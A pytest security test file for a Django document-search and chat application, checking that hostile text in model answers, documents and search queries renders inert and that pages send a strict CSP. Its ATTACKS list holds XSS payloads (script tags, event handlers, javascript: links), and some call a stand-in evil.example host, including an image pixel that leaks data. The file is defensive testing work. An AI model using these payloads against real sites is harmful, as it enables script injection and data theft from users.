"""Hostile text, from the model or from documents, is shown inert on every page that shows it.

Each attack goes through the model-answer renderer and through every page that shows
document text: the document view, search result snippets, and the citation previews
and source list of an answer. The page is parsed; compared with the same page holding
harmless text, no new active element, event handler, style, remote or script URL may
appear (``tests/security/inert.py``). Every page also sends a strict CSP.
"""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from apps.chat.citations import render_answer
from apps.chat.models import Conversation, Message
from apps.knowledge.indexing import index_document
from apps.knowledge.models import Document, KnowledgeBase
from apps.knowledge.uploads import add_file_document
from tests.security.inert import elements, problems

pytestmark = pytest.mark.django_db

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script, split case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "markdown remote image": "![pixel](https://evil.example/pixel.png?leak=question)",
    "raw remote image": '<img src="https://evil.example/pixel.png?leak=question">',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, entity-encoded": "[click](jav&#x09;ascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference link": "[click][1]\n\n[1]: javascript:alert(1)",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "svg onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "anchor onclick": '<a href="https://evil.example" onclick="steal()">x</a>',
    "style element": "<style>body{background:url(https://evil.example/bg)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/bg)">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><button>Go</button></form>',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "math xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "unclosed attribute breakout": '"><img src=x onerror=alert(1)>',
    "remote link": "[phish](https://evil.example/login)",
}
HARMLESS = "A harmless sentence about the canteen menu."


def _new_problems(html: str, baseline: str) -> list[str]:
    return problems(html, page_elements=elements(baseline))


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_model_answers_render_inert(name: str) -> None:
    html = str(render_answer(f"Answer. {ATTACKS[name]}", [], prefix="cite-1"))
    assert problems(html) == [], html


@pytest.fixture
def base(alice) -> KnowledgeBase:
    return KnowledgeBase.objects.create(name="Shared base", owner=alice, shared_with_all=True)


@pytest.fixture
def reader(client: Client, bob) -> Client:
    client.force_login(bob)
    return client


def _document(base: KnowledgeBase, title: str, text: str) -> Document:
    document = add_file_document(
        knowledge_base=base, filename=f"{title}.txt", data=text.encode(), title=title
    )
    assert index_document(document_id=document.pk).outcome == "indexed"
    return document


def _answer_page(client: Client, owner, document: Document, text: str) -> str:
    conversation = Conversation.objects.create(user=owner, title=text[:200])
    chunk = document.chunks.get()
    message = Message.objects.create(
        conversation=conversation,
        role="assistant",
        content=text,
        citations=[
            {
                "number": 1,
                "start": 0,
                "end": len(text),
                "chunk_id": chunk.pk,
                "document_id": document.pk,
                "title": document.title,
                "page": None,
                "url": "",
                "text": chunk.text,
            }
        ],
        retrieved=[{"chunk_id": chunk.pk, "document_id": document.pk}],
    )
    return client.get(reverse("chat:conversation", args=[message.conversation_id])).content.decode()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_document_text_renders_inert_on_every_page_that_shows_it(
    reader, bob, base, name: str
) -> None:
    attack = ATTACKS[name]
    clean = _document(base, "Canteen notes", f"Sample notes. {HARMLESS}")
    hostile = _document(base, f"Hostile {attack}", f"Sample notes. {attack}")
    visible = str(escape(attack.split("\n")[0]))
    pages: dict[str, tuple[str, str]] = {}

    def document_view(document: Document) -> str:
        return reader.get(reverse("knowledge:document", args=[document.pk])).content.decode()

    pages["document view"] = (document_view(hostile), document_view(clean))

    def search(query: str) -> str:
        # all=1: weaker matches too (the page hides them behind "Show all results").
        params = {"q": query, "kb": base.pk, "all": "1"}
        return reader.get(reverse("search:search"), params).content.decode()

    # The baseline is the same page without results: it holds the page's own tags only.
    pages["search results"] = (search("sample notes"), search("zzzz"))
    pages["answer, sources and citation previews"] = (
        _answer_page(reader, bob, hostile, f"Answer. {attack}"),
        _answer_page(reader, bob, clean, f"Answer. {HARMLESS}"),
    )
    for surface, (html, baseline) in pages.items():
        found = _new_problems(html, baseline)
        assert found == [], f"{surface}: {found}"
    # Control: the hostile text really was on each page, shown as text.
    for surface, (html, _) in pages.items():
        assert visible in html, surface


def test_a_hostile_search_query_is_shown_as_text(reader, base) -> None:
    attack = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
    html = reader.get(reverse("search:search"), {"q": attack}).content.decode()
    clean = reader.get(reverse("search:search"), {"q": "canteen"}).content.decode()
    assert _new_problems(html, clean) == []


PAGES = [
    "login",
    "chat:ask",
    "chat:conversation",
    "search:search",
    "knowledge:list",
    "knowledge:manage",
    "knowledge:status",
    "knowledge:document",
    "admin:index",
    "missing page",
]


@pytest.mark.parametrize("page", PAGES)
def test_every_page_sends_a_csp_with_self_images_and_no_inline_script(
    client, alice, base, page
) -> None:
    document = Document.objects.create(knowledge_base=base, title="d", text="t")
    conversation = Conversation.objects.create(user=alice, title="c")
    args = {
        "chat:conversation": [conversation.pk],
        "knowledge:manage": [base.pk],
        "knowledge:status": [base.pk],
        "knowledge:document": [document.pk],
    }
    client.force_login(alice)
    url = "/no-such-page/" if page == "missing page" else reverse(page, args=args.get(page))
    response = client.get(url)
    assert response.status_code == (404 if page == "missing page" else 200)
    policy = response["Content-Security-Policy"]
    directives = {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}
    assert directives["img-src"] == ["'self'"]
    assert directives["script-src"] == ["'self'"]
    assert directives["default-src"] == ["'self'"] and directives["object-src"] == ["'none'"]
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


def test_pages_carry_no_inline_script_or_handler_to_need_unsafe_inline(client, alice) -> None:
    client.force_login(alice)
    for name in ["login", "chat:ask", "knowledge:list", "search:search"]:
        for element in elements(client.get(reverse(name)).content.decode()):
            assert not any(attr.startswith("on") for attr in element.attrs), element
            if element.tag == "script":
                assert element.attrs.get("src", "").startswith("/static/"), element
